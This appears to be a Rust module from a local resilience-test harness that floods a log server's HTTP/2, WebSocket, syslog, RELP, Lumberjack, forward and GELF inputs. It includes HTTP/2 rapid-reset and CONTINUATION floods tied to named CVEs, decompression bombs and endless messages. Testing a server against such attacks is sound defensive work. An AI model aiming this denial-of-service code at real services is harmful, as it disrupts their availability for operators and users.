//! Attacks by bytes: the same again and again on a few connections, as fast as they are taken.

use std::io::Write as _;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Result, bail};
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{Arrivals, Targets, under_way};

/// How many connections there are.
const CLIENTS: usize = 4;

/// What HTTP/2 begins with: the preface and empty settings (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// `POST /` to the authority `x` (RFC 7541, appendix A).
const HEADERS: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'x'];

/// Sends `first`, then `again` until the connection ends; then anew, for ever.
async fn flood(to: SocketAddr, first: Vec<u8>, again: Vec<u8>) -> Result<()> {
    let bytes = Arc::new((first, again));
    let (mut clients, arrivals) = (JoinSet::new(), Arrivals::default());
    for _client in 0..CLIENTS {
        let (bytes, arrivals) = (Arc::clone(&bytes), arrivals.clone());
        let _task = clients.spawn(async move {
            loop {
                let _ended = once(to, &bytes.0, &bytes.1, &arrivals).await;
                tokio::task::yield_now().await;
            }
        });
    }
    arrivals.under_way_at(CLIENTS).await?;
    let _none_ends = clients.join_next().await;
    bail!("all clients have ended")
}

async fn once(to: SocketAddr, first: &[u8], again: &[u8], arrivals: &Arrivals) -> Result<()> {
    let mut stream = connect(to).await?;
    let (mut from, mut to) = stream.split();
    let mut heard = vec![0; 16 << 10];
    let sending = async {
        to.write_all(first).await?;
        arrivals.one();
        if again.is_empty() {
            return std::future::pending().await;
        }
        loop {
            to.write_all(again).await?;
        }
    };
    let reading = async { while matches!(from.read(&mut heard).await, Ok(1..)) {} };
    tokio::select! {
        sent = sending => sent,
        () = reading => Ok(()),
    }
}

async fn connect(to: SocketAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::new(IpAddr::from([127, 0, 0, 5]), 0))?;
    let stream = socket.connect(to).await?;
    stream.set_zero_linger()?;
    Ok(stream)
}

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Streams that are opened and reset at once (CVE-2023-44487).
pub(super) async fn resets(targets: Targets) -> Result<()> {
    let both = |n: u32| [frame(1, 0x4, n, HEADERS), frame(3, 0, n, &[0, 0, 0, 8])].concat();
    let streams: Vec<u8> = (0..5_000).flat_map(|n| both(2 * n + 1)).collect();
    // Numbers of streams only grow: the connection ends by itself when they come again.
    flood(targets.http, [PREFACE, &streams].concat(), streams).await
}

/// Streams that are reset a moment after they were opened, so that their requests have begun, and before they are refused.
pub(super) async fn late_resets(targets: Targets) -> Result<()> {
    /// As many as may be open.
    const AT_ONCE: u32 = 64;
    let (mut clients, arrivals) = (JoinSet::new(), Arrivals::default());
    for _client in 0..CLIENTS {
        let arrivals = arrivals.clone();
        let _task = clients.spawn(async move {
            loop {
                let _ended = reset_late(targets.http, AT_ONCE, &arrivals).await;
                tokio::task::yield_now().await;
            }
        });
    }
    arrivals.under_way_at(CLIENTS).await?;
    let _none_ends = clients.join_next().await;
    bail!("all clients have ended")
}

async fn reset_late(to: SocketAddr, at_once: u32, arrivals: &Arrivals) -> Result<()> {
    let mut stream = connect(to).await?;
    let (mut from, mut to) = stream.split();
    let sending = async {
        to.write_all(PREFACE).await?;
        arrivals.one();
        for wave in 0.. {
            let streams = (0..at_once).map(|n| 2 * (wave * at_once + n) + 1);
            let opened: Vec<u8> = streams.clone().flat_map(|n| frame(1, 0x4, n, HEADERS)).collect();
            to.write_all(&opened).await?;
            sleep(Duration::from_millis(2)).await;
            let reset: Vec<u8> = streams.flat_map(|n| frame(3, 0, n, &[0, 0, 0, 8])).collect();
            to.write_all(&reset).await?;
        }
        Ok(())
    };
    let mut heard = vec![0; 16 << 10];
    let reading = async { while matches!(from.read(&mut heard).await, Ok(1..)) {} };
    tokio::select! {
        sent = sending => sent,
        () = reading => Ok(()),
    }
}

/// Pings and settings, each of which wants an answer.
pub(super) async fn pings(targets: Targets) -> Result<()> {
    let pair = [frame(6, 0, 0, &[7; 8]), frame(4, 0, 0, &[])].concat();
    flood(targets.http, PREFACE.to_vec(), pair.repeat(1_000)).await
}

/// A head that never ends (CVE-2024-27316).
pub(super) async fn heads(targets: Targets) -> Result<()> {
    let begins = [PREFACE, &frame(1, 0, 1, HEADERS)].concat();
    flood(targets.http, begins, frame(9, 0, 1, &[0; 8_000])).await
}

/// A message of a WebSocket in fragments, beyond what one may have.
pub(super) async fn fragments(targets: Targets) -> Result<()> {
    let head = format!(
        "GET /v1/stream HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\n\
         sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nauthorization: Bearer {}\r\n\r\n",
        targets.token
    );
    let begins = [head.as_bytes(), &[0x01, 0x81, 0, 0, 0, 0, b'x']].concat();
    let part = [&[0x00, 0xfe, 0x40, 0, 0, 0, 0, 0][..], &[b'x'; 0x4000]].concat();
    flood(targets.http, begins, part).await
}

/// Windows whose compressed frame inflates beyond what one may hold.
pub(super) async fn lumberjack_bombs(targets: Targets) -> Result<()> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(&vec![0; 20 << 20])?;
    let bomb = encoder.finish()?;
    let len = u32::try_from(bomb.len())?.to_be_bytes();
    flood(targets.door("lumberjack")?, [&b"2W\0\0\0\x012C"[..], &len, &bomb].concat(), Vec::new()).await
}

/// Packed entries that inflate beyond what they may.
pub(super) async fn forward_bombs(targets: Targets) -> Result<()> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(&vec![0; 20 << 20])?;
    let bomb = encoder.finish()?;
    let len = u32::try_from(bomb.len())?.to_be_bytes();
    let options = b"\x81\xaacompressed\xa4gzip";
    let message = [&b"\x93\xa1t\xc6"[..], &len, &bomb, options].concat();
    flood(targets.door("forward")?, message, Vec::new()).await
}

/// A line that never ends.
pub(super) async fn syslog_lines(targets: Targets) -> Result<()> {
    flood(targets.door("syslog")?, b"<14>".to_vec(), vec![b'x'; 64 << 10]).await
}

/// A message that never ends.
pub(super) async fn relp_commands(targets: Targets) -> Result<()> {
    let open = b"1 open 32 relp_version=0\ncommands=syslog\n2 syslog 999999999 ".to_vec();
    flood(targets.door("relp")?, open, vec![b'x'; 64 << 10]).await
}

/// First halves of messages, in datagrams.
pub(super) async fn gelf_halves(targets: Targets) -> Result<()> {
    let socket = UdpSocket::bind(("127.0.0.5", 0)).await?;
    let to = targets.door("gelf_udp")?;
    under_way()?;
    let mut number = 0_u64;
    loop {
        let chunk = [&[0x1e, 0x0f][..], &number.to_be_bytes(), &[0, 2], &[b'x'; 2_000]].concat();
        let _may_be_full = socket.send_to(&chunk, to).await;
        number += 1;
    }
}
